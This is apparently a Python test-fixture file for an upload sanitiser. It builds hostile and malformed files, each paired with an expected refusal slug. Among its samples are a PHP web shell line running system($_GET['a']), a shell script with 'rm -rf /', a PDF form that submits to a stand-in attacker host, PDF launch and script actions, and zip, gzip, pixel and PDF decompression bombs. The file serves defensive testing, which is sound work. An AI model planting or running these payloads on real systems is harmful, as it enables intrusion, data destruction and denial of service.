"""Papers that somebody sends to do harm, or by mistake: each made here, none longer than it must be."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import pikepdf
from PIL import Image

from support.ruang_surat import foto, pdf

MB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Case:
    """What is sent and the slug it is refused with; an empty slug: made harmless and kept."""

    make: Callable[[], bytes]
    slug: str


def _png(width: int, height: int, rows: bytes = b"\0" * 1000, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    if extra:
        parts.insert(1, (b"zTXt", extra))
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + body


def _zip(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _pdf(change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _script(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=code)


def _open_action(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script()


def _named_script(made: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), made.make_indirect(_script())]))
    made.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _outline_script(made: pikepdf.Pdf) -> None:
    item = made.make_indirect(pikepdf.Dictionary(Title="buka", A=_script()))
    made.Root.Outlines = made.make_indirect(pikepdf.Dictionary(First=item, Last=item, Count=1))


def _field_script(made: pikepdf.Pdf) -> None:
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="nama", AA=pikepdf.Dictionary(K=_script()))
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([made.make_indirect(field)]))


def _launch(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(note)])


def _chained(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([made.pages[0].obj]), Next=_script()
    )


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def _file_note(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"MZ")
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=stream))
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(note)])


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=made.make_stream(b"<xdp/>"))


def _submit(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://jahat.example")
    made.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def _signed(made: pikepdf.Pdf) -> None:
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Filter=pikepdf.Name("/Adobe.PPKLite"))
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="s", V=made.make_indirect(value))
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([made.make_indirect(field)]))


def _signed_script(made: pikepdf.Pdf) -> None:
    _signed(made)
    _open_action(made)


def _flate_bomb(made: pikepdf.Pdf) -> None:
    """A page whose content unpacks to 2 GB."""
    packer = zlib.compressobj(9)
    piece = b"0 0 m " * 170_000
    packed = b"".join(packer.compress(piece) for _ in range(2000)) + packer.flush()
    stream = made.make_stream(b"")
    stream.write(packed, filter=pikepdf.Name.FlateDecode)
    made.pages[0].obj.Contents = stream


def _image_bomb(made: pikepdf.Pdf) -> None:
    """A picture that claims 60,000 × 60,000 pixels."""
    stream = made.make_stream(b"")
    stream.write(zlib.compress(b"\0" * 10_000_000), filter=pikepdf.Name.FlateDecode)
    for name, value in {"Width": 60_000, "Height": 60_000, "BitsPerComponent": 8}.items():
        stream[f"/{name}"] = value
    stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    stream.ColorSpace = pikepdf.Name.DeviceRGB
    page = made.pages[0].obj
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=stream))
    page.Contents = made.make_stream(b"595 0 0 842 0 0 cm /I Do")


def _nested(made: pikepdf.Pdf) -> None:
    inner: pikepdf.Object = pikepdf.Array([1])
    for _ in range(400):
        inner = pikepdf.Array([inner])
    made.Root.Lain = inner


def _endless_pages() -> bytes:
    """A page tree that contains itself."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _encrypted(user: str) -> bytes:
    return _pdf(lambda made: None, encryption=pikepdf.Encryption(user=user, owner="x"))


def _html(title: str = "ktp") -> bytes:
    return f"<!DOCTYPE html><html><title>{title}</title><script>alert(1)</script></html>".encode()


def _svg() -> bytes:
    return b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def _bytes(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (700, 700)).save(out, "GIF")
    return out.getvalue()


def _stuffed() -> bytes:
    """A photograph behind 6 MB of comments."""
    comment = b"\xff\xfe" + struct.pack(">H", 65535) + b"x" * 65533
    return b"\xff\xd8" + comment * 95 + foto()[2:]


def _trailing(content: bytes) -> Callable[[], bytes]:
    """A good photograph with something behind it."""
    return lambda: foto() + content


def _harmless(change: Callable[[pikepdf.Pdf], None]) -> Case:
    return Case(lambda: _pdf(change), "")


KIND, BROKEN, MIXED = "jenis-tidak-diterima", "gambar-rusak", "pdf-tercampur"
CASES: Mapping[str, Case] = {
    # What is no paper, whatever it is called
    "nothing": Case(_bytes(b""), "berkas-kosong"),
    "html named jpg": Case(_html, KIND),
    "svg": Case(_svg, KIND),
    "xml entity bomb": Case(_bytes(b'<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'), KIND),
    "php": Case(_bytes(b"<?php system($_GET['a']); ?>"), KIND),
    "shell script": Case(_bytes(b"#!/bin/sh\nrm -rf /\n"), KIND),
    "windows program": Case(_bytes(b"MZ" + b"\0" * 600), KIND),
    "elf program": Case(_bytes(b"\x7fELF" + b"\0" * 600), KIND),
    "office macro file": Case(lambda: _zip("word/vbaProject.bin", b"x" * 900), KIND),
    "zip bomb": Case(lambda: _zip("a", b"\0" * (40 * MB)), KIND),
    "gzip bomb": Case(lambda: gzip.compress(b"\0" * (40 * MB)), KIND),
    "gif": Case(_gif, KIND),
    "video": Case(_bytes(b"\0\0\0\x18ftypmp42" + b"\0" * 600), KIND),
    "random bytes": Case(_bytes(bytes(range(256)) * 40), KIND),
    # Pictures
    "cut photograph": Case(lambda: foto()[:2000], BROKEN),
    "only the head of a jpeg": Case(_bytes(b"\xff\xd8\xff\xe0\0\x10JFIF\0"), BROKEN),
    "only the head of a png": Case(_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 300), BROKEN),
    "only the head of a heic": Case(_bytes(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 300), BROKEN),
    "under 600 pixels": Case(lambda: foto(599, 400), "gambar-terlalu-kecil"),
    "pixel bomb": Case(lambda: _png(30_000, 30_000), "gambar-terlalu-besar"),
    "pixel bomb just over": Case(lambda: _png(6_000, 5_000), "gambar-terlalu-besar"),
    "endless side": Case(lambda: _png(2_000_000_000, 1), "gambar-terlalu-besar"),
    "text bomb in a png": Case(
        lambda: _png(700, 700, extra=b"a\0\0" + zlib.compress(b"a" * (80 * MB))), BROKEN
    ),
    "photograph stuffed with comments": Case(_stuffed, "gambar-terlalu-besar"),
    "zip behind a photograph": Case(_trailing(_zip("a.exe", b"MZ")), ""),
    "script behind a photograph": Case(_trailing(b"<script>alert(1)</script>"), ""),
    "script in the comment": Case(lambda: foto(comment=b"<script>alert(1)</script>"), ""),
    # PDFs
    "pdf bomb": Case(lambda: _pdf(_flate_bomb), "berkas-terlalu-berat"),
    "picture bomb in a pdf": Case(lambda: _pdf(_image_bomb), ""),
    "pdf locked": Case(lambda: _encrypted("rahasia"), "pdf-terkunci"),
    "pdf locked for changes": Case(lambda: _encrypted(""), "pdf-terkunci"),
    "pdf of 31 pages": Case(lambda: pdf(31), "pdf-terlalu-panjang"),
    "pdf without pages": Case(
        _bytes(b"%PDF-1.7\ntrailer<</Root<</Pages<</Kids[]/Count 0>>>>>>\n%%EOF\n"), "pdf-rusak"
    ),
    "pdf whose pages contain themselves": Case(_endless_pages, "pdf-rusak"),
    "pdf of nested arrays": Case(lambda: _pdf(_nested), "pdf-rusak"),
    "cut pdf": Case(lambda: pdf()[:-30], MIXED),
    "html before a pdf": Case(lambda: _html() + pdf(), KIND),
    "zip behind a pdf": Case(lambda: pdf() + _zip("a.exe", b"MZ"), MIXED),
    "pdf header on html": Case(lambda: b"%PDF-1.7\n" + _html(), MIXED),
    "pdf header and end on rubbish": Case(_bytes(b"%PDF-1.7\nxxxx\n%%EOF\n"), "pdf-rusak"),
    "signed pdf with a script": Case(lambda: _pdf(_signed_script), "pdf-bertanda-tangan-berskrip"),
    "pdf with a script at opening": _harmless(_open_action),
    "pdf with a script behind a jump": _harmless(_chained),
    "pdf with a named script": _harmless(_named_script),
    "pdf with a script in the outline": _harmless(_outline_script),
    "pdf with a script in a field": _harmless(_field_script),
    "pdf that starts a program": _harmless(_launch),
    "pdf with an attachment": _harmless(_attachment),
    "pdf with a file in a note": _harmless(_file_note),
    "pdf with xfa": _harmless(_xfa),
    "pdf that sends a form": _harmless(_submit),
}
